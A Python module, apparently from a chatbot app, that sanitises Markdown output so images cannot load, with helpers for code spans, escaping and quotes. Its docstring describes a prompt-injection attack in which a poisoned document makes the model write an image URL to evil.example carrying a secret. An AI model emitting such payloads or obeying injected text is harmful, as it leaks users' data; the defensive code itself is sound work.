"""Rendering model output, document text and file names safely.

Text goes through ``st.markdown`` without ``unsafe_allow_html``, so raw HTML is shown as text, never run. An
image, though, would make the browser fetch its URL as soon as the answer is shown: a prompt-injected document
could have the model write ``![](https://evil.example/?q=<secret>)`` and leak data without a click.

Matching image syntax with a pattern is not enough (reference-style images, nested or escaped brackets each
got past one). What every Markdown image has in common, in CommonMark and GFM whatever its form, is an
unescaped ``!`` immediately followed by ``[``. So, after turning the common forms into a readable
``[image: alt]``, every remaining ``![`` gets an invisible WORD JOINER (U+2060) between its two characters:
the parser can then never open an image, in any form, and nothing visible changes, inside code spans too.
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]]*)\]\(([^)]*)\)")
_REF_IMAGE = re.compile(r"!\[([^\]]*)\]\[[^\]]*\]")
_JOINER = "\u2060"
_CONTROL = re.compile(r"[\x00-\x1f\x7f]")


def safe_markdown(text: str) -> str:
    """``text`` with Markdown images made impossible: common forms shown as ``[image: alt]``, any other left
    as inert text."""
    text = _IMAGE.sub(lambda m: f"[image: {m.group(1) or 'no description'}]", text)
    text = _REF_IMAGE.sub(lambda m: f"[image: {m.group(1) or 'no description'}]", text)
    return text.replace("![", "!" + _JOINER + "[")


def code_span(text: str) -> str:
    """``text`` (a file name, a path) as a Markdown code span that nothing in it can close early: control
    characters (a newline could end the paragraph) become spaces, and the fence is longer than any run of
    backticks inside."""
    text = _CONTROL.sub(" ", text)
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    return f"{fence} {text} {fence}"


def plain_passage(text: str, limit: int = 1200) -> str:
    """A source passage for display as preformatted text (no Markdown interpretation at all)."""
    text = text.strip()
    return text if len(text) <= limit else text[:limit].rstrip() + " …"


_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")


def escape_markdown(text: str) -> str:
    """``text`` shown as it is: every ASCII punctuation character backslash-escaped (CommonMark lets any be), so
    no emphasis, link, image, code, heading, list, HTML or math can start in it; control characters become
    spaces."""
    return _PUNCTUATION.sub(r"\\\1", _CONTROL.sub(" ", text))


def quote_markdown(before: str, quote: str, after: str) -> str:
    """A quote in bold between its context (:func:`chatbot.citations.quote_context`), all of it plain text. A
    space keeps the bold delimiters where CommonMark reads them when the quote starts or ends with punctuation
    inside a word."""
    lead = " " if before[-1:].isalnum() and quote[:1] and not quote[0].isalnum() else ""
    trail = " " if after[:1].isalnum() and quote[-1:] and not quote[-1].isalnum() else ""
    return f"{escape_markdown(before)}{lead}**{escape_markdown(quote)}**{trail}{escape_markdown(after)}"
